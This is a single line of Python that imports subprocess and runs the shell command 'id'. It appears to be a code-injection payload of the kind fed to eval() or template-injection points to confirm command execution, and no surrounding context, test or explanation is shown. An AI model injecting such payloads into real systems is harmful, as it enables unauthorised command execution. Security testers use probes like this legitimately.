__import__('subprocess').check_output('id', shell=True)
